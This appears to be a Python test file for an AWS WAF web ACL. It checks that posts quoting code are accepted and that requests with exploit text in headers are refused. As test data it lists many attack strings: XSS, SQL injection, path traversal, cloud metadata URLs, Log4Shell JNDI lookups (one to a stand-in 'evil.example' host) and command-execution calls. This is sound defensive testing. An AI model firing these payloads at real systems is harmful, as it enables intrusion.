"""The web ACL refuses no post for its text, and refuses attacks elsewhere ("Baseline rule groups", as modelled)."""

from __future__ import annotations

import json
from urllib.parse import quote

import pytest

from infra.constructs.web_acl import BLOCKED
from services.posts.model import TEXT_LIMIT
from tests.infra.templates import Json, Templates
from tests.support.web_acl import Request, blocked_by, refusing_rules

#: Texts of posts: code, logs, attacks, addresses, paths.
SNIPPETS = (
    '<script>alert("hi")</script>', "<img src=x onerror=alert(1)>", '<a href="https://example.com">link</a>',
    "<div class='card' onclick=\"open()\">", "document.querySelector('#app').innerHTML = ''", "javascript:void(0)",
    "<!-- TODO --> <br/>", "x = y < z && z > 1", "<T extends keyof U>(value: T) => value", "std::vector<int> v;",
    "../../etc/passwd", "cat /etc/hosts", "C:\\Windows\\System32\\drivers\\etc", "cd ../.. && ls -la",
    "/proc/self/status",
    "tail -f /var/log/nginx/error.log", "see docker-compose.yml and app.conf", "php.ini upload_max_filesize",
    "cp .env .env.bak", "ssh -i ~/.ssh/id_rsa.pem user@host", "mysqldump db > backup.sql", "#!/bin/bash -e", "setup.sh",
    "http://169.254.169.254/latest/meta-data/", "curl http://10.0.0.1:8080/?q=1", "http://192.168.1.1/admin.php",
    "https://example.com/?next=https://example.org/%2e%2e/", "ftp://ftp.example.com/pub/file.tar.gz",
    "git clone ssh://git@example.com/repo.git", "file:///home/me/notes.md", "data:text/html;base64,PGI+",
    "::1 と localhost",
    "${jndi:ldap://example.com/a}", "Hello ${name}, you are ${age}", "export PATH=${PATH}:/opt/bin",
    "${{ secrets.TOKEN }}",
    "java.lang.Runtime.getRuntime().exec(\"ls\")", "new ProcessBuilder(\"ls\").start()", "rO0ABXNyABFqYXZhLnV0aWw",
    "class.module.classLoader", "Object.prototype.__proto__", "constructor(private readonly x: number) {}",
    "require('child_process').execSync('id')", "{\"$@0\": {\"_response\": 1}}",
    "SELECT * FROM users WHERE id = 1 OR 1=1; --", "'; DROP TABLE posts; --", "UNION ALL SELECT NULL,NULL",
    "{{7*7}} <%= 7*7 %> #{7*7}", "%0d%0aSet-Cookie: a=b", "'><svg/onload=confirm`1`>",
)  # fmt: skip
FRAMES = (
    "What does {} do?",
    "Found this in our code today: {} #til",
    "「{}」って何ですか？",
    "今日の学び: {} を直しました 🎉",
)
POSTS = [frame.format(snippet) for snippet in SNIPPETS for frame in FRAMES]


def acl(aws: Templates) -> Json:
    (row,) = aws.resources("AWS::WAFv2::WebACL").values()
    return row


def publish(text: str) -> Request:
    body = json.dumps({"clientPostId": "c", "text": text, "visibility": "public"}, ensure_ascii=False)
    return Request("POST", "/v1/posts", body=body)


def lookups(text: str) -> list[Request]:
    """A search for the text: the page and the API; and a share into the composer."""
    query = f"q={quote(text)}"
    return [Request("GET", path, query) for path in ("/search", "/v1/search/posts", "/compose")]


def test_two_hundred_posts_with_code_and_addresses_are_taken_and_found(aws: Templates) -> None:
    assert len(POSTS) == len(set(POSTS)) == 200
    refused = {text: rule for text in POSTS if (rule := blocked_by(acl(aws), publish(text)))}
    refused |= {text: rule for text in POSTS for one in lookups(text) if (rule := blocked_by(acl(aws), one))}
    assert refused == {}
    # AWS's groups without our overrides would have refused most of these.
    assert sum(1 for text in POSTS if refusing_rules(publish(text))) > 130


@pytest.mark.parametrize("text", ["あ" * TEXT_LIMIT, "🎉" * 1_000])
def test_long_posts_and_long_searches_are_taken(aws: Templates, text: str) -> None:
    assert refusing_rules(lookups(text)[0])
    assert [blocked_by(acl(aws), one) for one in (publish(text), *lookups(text[:256]))] == [""] * 4


@pytest.mark.parametrize(
    "request_",
    [
        Request("GET", "/v1/timelines/home", headers={"host": "example.com"}),
        Request("GET", "/", headers={"user-agent": "nmap scripting engine", "host": "example.com"}),
        Request("GET", "/", headers={"user-agent": "${jndi:ldap://evil.example/a}", "host": "example.com"}),
        Request("GET", "/", headers={"user-agent": "a", "cookie": "a=<script>", "host": "example.com"}),
        Request("GET", "/", headers={"user-agent": "a", "host": "localhost"}),
        Request("PROPFIND", "/"),
        Request("GET", "/../../etc/passwd"),
        Request("GET", "/WEB-INF/web.xml"),
        Request("GET", "/backup.sql"),
        Request("GET", f"/{'a' * 1100}"),
    ],
)
def test_requests_with_exploit_text_in_the_headers_are_refused(aws: Templates, request_: Request) -> None:
    assert blocked_by(acl(aws), request_) == "not-what-people-write"
    # Also with a matching body: that match does not end the evaluation before the header is checked.
    with_body = Request(request_.method, request_.path, "q=<script>", "<script>${jndi:x}", request_.headers)
    assert blocked_by(acl(aws), with_body) == "not-what-people-write"


@pytest.mark.parametrize("change", ["block-the-group", "block-a-body-label"])
def test_the_check_notices_rules_that_refuse_posts(aws: Templates, change: str) -> None:
    stricter: Json = json.loads(json.dumps(acl(aws)))
    for rule in stricter["Rules"]:
        group = rule["Statement"].get("ManagedRuleGroupStatement")
        if change == "block-the-group" and group:
            rule["OverrideAction"] = {"None": {}}
            del group["RuleActionOverrides"]
        elif change == "block-a-body-label" and "OrStatement" in rule["Statement"]:
            key = "awswaf:managed:aws:core-rule-set:CrossSiteScripting_Body"
            rule["Statement"]["OrStatement"]["Statements"].append(
                {"LabelMatchStatement": {"Scope": "LABEL", "Key": key}}
            )
    assert any(blocked_by(stricter, publish(text)) for text in POSTS)


def test_rules_never_block_on_labels_of_user_text() -> None:
    assert [one for one in BLOCKED if one.rpartition("_")[2] not in ("Header", "Cookie", "URIPath", "Method")] == []
